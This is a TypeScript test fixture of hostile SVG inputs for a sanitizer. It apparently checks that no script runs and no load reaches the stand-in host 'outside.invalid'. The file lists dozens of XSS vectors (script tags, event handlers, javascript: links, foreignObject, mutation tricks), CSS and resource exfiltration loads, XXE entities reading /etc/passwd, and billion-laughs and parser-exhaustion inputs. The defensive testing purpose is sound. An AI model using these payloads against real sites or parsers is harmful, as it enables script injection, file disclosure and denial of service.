/** Pictures written to do harm. Whatever runs calls `hit()`, whatever loads asks the host named here; neither may ever happen. */

/** Nobody answers there; a browser that asks has lost. */
export const OUTSIDE = 'http://outside.invalid';

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const HIT = "document.documentElement.setAttribute('data-hit','1');fetch('http://outside.invalid/hit')";
const svg = (inside: string, attributes = '') =>
  `<svg ${NS} ${XLINK} width="200" height="100" ${attributes}>${inside}</svg>`;
const styled = (css: string, inside = '<rect class="a" width="9" height="9"/>') =>
  svg(`<style>${css}</style>${inside}`);
const load = (path: string) => `${OUTSIDE}/${path}`;
const b64 = (text: string) => Buffer.from(text).toString('base64');

const scripts: Record<string, string> = {
  'script element': svg(`<script>${HIT}</script>`),
  'script in CDATA': svg(`<script><![CDATA[${HIT}]]></script>`),
  'script of another type': svg(`<script type="application/ecmascript">${HIT}</script>`),
  'script module': svg(`<script type="module">${HIT}</script>`),
  'script from outside': svg(`<script href="${load('a.js')}"/>`),
  'script by xlink': svg(`<script xlink:href="${load('a.js')}"/>`),
  'script from a data URL': svg(`<script href="data:text/javascript,${encodeURIComponent(HIT)}"/>`),
  'script in the XHTML namespace': svg(`<script xmlns="http://www.w3.org/1999/xhtml">${HIT}</script>`),
  'script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${HIT}</s:script></s:svg>`,
  'script under another prefix': svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${HIT}</h:script>`),
  'script in capitals': svg(`<SCRIPT>${HIT}</SCRIPT>`),
  'script inside defs inside use': svg(`<defs><g id="a"><script>${HIT}</script></g></defs><use href="#a"/>`),
  'script in a title': svg(`<title><script>${HIT}</script></title>`),
  'script after a comment': svg(`<!-- --><script>${HIT}</script><!-- -->`),
  'script between comment halves': svg(`<scr<!-- x -->ipt>${HIT}</script>`),
};

const handlers: Record<string, string> = {
  'onload on the root': svg('', `onload="${HIT}"`),
  'onload on a shape': svg(`<g onload="${HIT}"><rect width="9" height="9"/></g>`),
  'onerror on an image': svg(`<image href="x" onerror="${HIT}" width="9" height="9"/>`),
  onclick: svg(`<rect width="200" height="100" onclick="${HIT}"/>`),
  onmouseover: svg(`<rect width="200" height="100" onmouseover="${HIT}"/>`),
  'onfocus with autofocus': svg(
    `<g tabindex="0" autofocus="" onfocus="${HIT}"><rect width="9" height="9"/></g>`,
  ),
  'onbegin of an animation': svg(
    `<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="${HIT}"/></rect>`,
  ),
  'onend of an animation': svg(
    `<rect width="9" height="9"><set attributeName="x" to="1" dur="0.01s" onend="${HIT}"/></rect>`,
  ),
  'onanimationstart with keyframes': svg(
    `<style>@keyframes a{to{opacity:0}} .a{animation:a 1ms}</style><rect class="a" onanimationstart="${HIT}" width="9" height="9"/>`,
  ),
  'handler in mixed case': svg(`<rect oNLoAd="${HIT}" width="9" height="9"/>`),
  'handler behind a newline': svg(`<rect\nonload\n=\n"${HIT}" width="9" height="9"/>`),
  'handler by ev:listener': svg(
    `<g xmlns:ev="http://www.w3.org/2001/xml-events"><ev:listener event="load" handler="javascript:${HIT}"/></g>`,
  ),
  'handler element': svg(`<handler type="application/ecmascript">${HIT}</handler>`),
  'quote breaking out of an attribute': svg(`<text font-family="Arial&quot; onload=&quot;${HIT}">x</text>`),
  'unquoted handler': `<svg ${NS} onload=${HIT}></svg>`,
};

const pages: Record<string, string> = {
  'foreignObject with a script': svg(
    `<foreignObject width="200" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>${HIT}</script></body></foreignObject>`,
  ),
  'foreignObject with an iframe': svg(
    `<foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${load('frame')}"/></foreignObject>`,
  ),
  'foreignObject with an image': svg(
    `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${load('i.png')}" onerror="${HIT}"/></foreignObject>`,
  ),
  'foreignObject in capitals': svg(
    `<FOREIGNOBJECT><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${HIT}"/></FOREIGNOBJECT>`,
  ),
  iframe: svg(
    `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${HIT}&lt;/script&gt;"/>`,
  ),
  object: svg(`<object xmlns="http://www.w3.org/1999/xhtml" data="${load('o')}"/>`),
  embed: svg(`<embed xmlns="http://www.w3.org/1999/xhtml" src="${load('e')}"/>`),
  'meta refresh': svg(
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${load('m')}"/>`,
  ),
  'form that sends itself': svg(
    `<form xmlns="http://www.w3.org/1999/xhtml" action="${load('f')}"><input autofocus="" onfocus="${HIT}"/></form>`,
  ),
  'HTML page named svg': `<html><body><script>${HIT}</script></body></html>`,
  'HTML after the picture': `${svg('')}<script>${HIT}</script>`,
  'title that ends early': `<svg ${NS}><title></title><img src=x onerror="${HIT}"></svg>`,
  'mutation by math and style': svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><style><img src="x" onerror="${HIT}"/></style></mtext></math>`,
  ),
  'noscript mutation': svg(
    `<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=${HIT}&gt;"/></noscript>`,
  ),
};

const links: Record<string, string> = {
  'javascript link': svg(`<a href="javascript:${HIT}"><rect width="200" height="100"/></a>`),
  'javascript link by xlink': svg(`<a xlink:href="javascript:${HIT}"><rect width="200" height="100"/></a>`),
  'javascript with entities': svg(
    `<a href="&#106;ava&#x9;script:${HIT}"><rect width="200" height="100"/></a>`,
  ),
  'javascript in capitals with spaces': svg(
    `<a href=" JaVaScRiPt:${HIT}"><rect width="200" height="100"/></a>`,
  ),
  'use of an outside picture': svg(`<use href="${load('u.svg')}#a"/>`),
  'use of a data picture': svg(
    `<use href="data:image/svg+xml;base64,${b64(svg(`<g id="a"><script>${HIT}</script></g>`))}#a"/>`,
  ),
  'use of javascript': svg(`<use href="javascript:${HIT}"/>`),
  'image from outside': svg(`<image href="${load('i.png')}" width="9" height="9"/>`),
  'image by xlink': svg(`<image xlink:href="${load('i.png')}" width="9" height="9"/>`),
  'image with a scheme left out': svg(`<image href="//outside.invalid/i.png" width="9" height="9"/>`),
  'image of data with script': svg(
    `<image href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${HIT}</script>`))}" width="9" height="9"/>`,
  ),
  'feImage from outside': svg(
    `<filter id="f"><feImage href="${load('f.png')}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'animate to javascript': svg(
    `<a id="a" href="#"><animate attributeName="href" to="javascript:${HIT}" begin="0s" fill="freeze"/><rect width="200" height="100"/></a>`,
  ),
  'set to javascript': svg(
    `<a href="#"><set attributeName="xlink:href" to="javascript:${HIT}"/><rect width="200" height="100"/></a>`,
  ),
  'animate of an image source': svg(
    `<image width="9" height="9"><animate attributeName="href" values="${load('v.png')}"/></image>`,
  ),
  'base for relative addresses': svg(`<use href="#a"/>`, `xml:base="${load('base/')}"`),
  'gradient from outside': svg(
    `<linearGradient id="g" href="${load('g.svg')}#g"/><rect fill="url(#g)" width="9" height="9"/>`,
  ),
  'textPath from outside': svg(`<text><textPath href="${load('t.svg')}#t">x</textPath></text>`),
  'mpath from outside': svg(
    `<rect width="9" height="9"><animateMotion><mpath href="${load('p.svg')}#p"/></animateMotion></rect>`,
  ),
  'cursor from outside': svg(`<cursor xlink:href="${load('c.png')}"/>`),
  'font-face-uri': svg(
    `<font-face font-family="x"><font-face-src><font-face-uri href="${load('f.woff')}"/></font-face-src></font-face><text font-family="x">x</text>`,
  ),
  'ping on a link': svg(`<a href="#" ping="${load('ping')}"><rect width="200" height="100"/></a>`),
};

const styles: Record<string, string> = {
  import: styled(`@import url(${load('a.css')});`),
  'import as a string': styled(`@import '${load('a.css')}';`),
  'import behind a comment': styled(`/**/@im/**/port "${load('a.css')}";@import/**/"${load('b.css')}";`),
  'import with an escape': styled(`@\\69mport url(${load('a.css')});`),
  'font face': styled(
    `@font-face{font-family:x;src:url(${load('f.woff2')})} text{font-family:x}`,
    '<text y="20">x</text>',
  ),
  'fill url': styled(`.a{fill:url(${load('a.svg#p')})}`),
  'fill url attribute': svg(`<rect fill="url(${load('a.svg#p')})" width="9" height="9"/>`),
  'fill url in quotes': svg(`<rect fill='url("${load('a.svg#p')}")' width="9" height="9"/>`),
  'style attribute url': svg(
    `<rect style="fill:url(${load('a.svg#p')});background:url(${load('b.png')})" width="9" height="9"/>`,
  ),
  'url with an escape': styled(`.a{mask:u\\72l(${load('m.svg#m')})}`),
  'image-set': styled(`.a{mask-image:image-set("${load('m.png')}" 1x)}`),
  cursor: styled(`*{cursor:url(${load('c.cur')}),auto}`),
  'filter url': svg(`<rect filter="url(${load('f.svg#f')})" width="9" height="9"/>`),
  'marker url': svg(`<path d="M0 0L9 9" marker-end="url(${load('m.svg#m')})"/>`),
  'style that closes itself': svg(`<style>&lt;/style&gt;&lt;script&gt;${HIT}&lt;/script&gt;</style>`),
  'style with markup': svg(`<style><script>${HIT}</script></style>`),
  expression: styled(`.a{width:expression(${HIT})}`),
  behaviour: styled(`.a{behavior:url(${load('b.htc')});-moz-binding:url(${load('x.xml#x')})}`),
  'namespace and supports': styled(
    `@namespace url(${load('n')});@supports(display:block){.a{fill:url(${load('a.svg#p')})}}`,
  ),
  'layer import': styled(`@layer x{@import url(${load('l.css')});}`),
  'font size that breaks out': svg(
    `<text font-size="24px;background:url(${load('fs.png')})" y="20">x</text>`,
  ),
  'colour that breaks out': svg(
    `<text style="fill:red;} *{background:url(${load('c.png')})" y="20">x</text>`,
  ),
  'xml-stylesheet': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${load('x.css')}"?>${svg('')}`,
  'xml-stylesheet with XSLT': `<?xml-stylesheet type="text/xsl" href="${load('x.xsl')}"?>${svg('')}`,
  'link element': svg(
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${load('l.css')}"/>`,
  ),
};

/** Nothing in them, but slow for those who read them one by one. */
const slow: Record<string, string> = {
  'thirty thousand comments': svg('<!---->'.repeat(30_000)),
  'thirty thousand instructions': svg('<?x y?>'.repeat(30_000)),
  'a sheet of open braces': styled('{'.repeat(200_000)),
};

const laughs = (times: number) =>
  Array.from({ length: times }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
const copies = (levels: number) =>
  Array.from({ length: levels }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join(
    '',
  );

/** These are refused outright. */
export const REFUSED: Record<string, string> = {
  'entity with a script': `<!DOCTYPE svg [<!ENTITY x "<script>${HIT}</script>">]>${svg('&x;')}`,
  'entity from outside': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${load('x.ent')}">]>${svg('&x;')}`,
  'entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&x;</text>')}`,
  'document type from outside': `<!DOCTYPE svg SYSTEM "${load('x.dtd')}">${svg('')}`,
  'document type in pieces': `<svg ${NS}><!DOC<!-- -->TYPE svg [<!ENT<!-- -->ITY x "y">]></svg>`,
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${load('p.dtd')}"> %p;]>${svg('')}`,
  'billion laughs': `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs(9)}]>${svg('<text>&l9;</text>')}`,
  'copies of copies': svg(`<defs><rect id="u0" width="1" height="1"/>${copies(9)}</defs><use href="#u9"/>`),
  'one part copied far too often': svg(
    `<g id="a">${'<rect width="1" height="1"/>'.repeat(700)}</g>${'<use href="#a"/>'.repeat(900)}`,
  ),
  'copy of itself': svg('<g id="a"><use href="#a"/></g>'),
  'a hundred thousand elements': svg('<g/>'.repeat(100_000).slice(0, 240_000)),
  'nested without end': svg(`${'<g>'.repeat(2000)}${'</g>'.repeat(2000)}`),
  'a path of half a megabyte': svg(`<path d="M0 0${'L1 1'.repeat(130_000)}"/>`),
  'twenty thousand attributes': `<svg ${NS} ${Array.from({ length: 20_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
  'eight thousand namespaces': `<svg ${NS} ${Array.from({ length: 8000 }, (_, i) => `xmlns:a${i}="x:${i}"`).join(' ')}/>`,
  'no picture at all': 'hello',
  'a script alone': HIT,
  JSON: '{"svg":true}',
  'open tags': `<svg ${NS}><g><rect>`,
  'UTF-7': '+ADw-svg onload+AD0AIg-alert(1)+ACI-+AD4-',
  'GIF that is a page': `GIF89a/*${svg(`<script>${HIT}</script>`)}*/`,
};

export const ATTACKS: Record<string, string> = {
  ...scripts,
  ...handlers,
  ...pages,
  ...links,
  ...styles,
  ...slow,
};
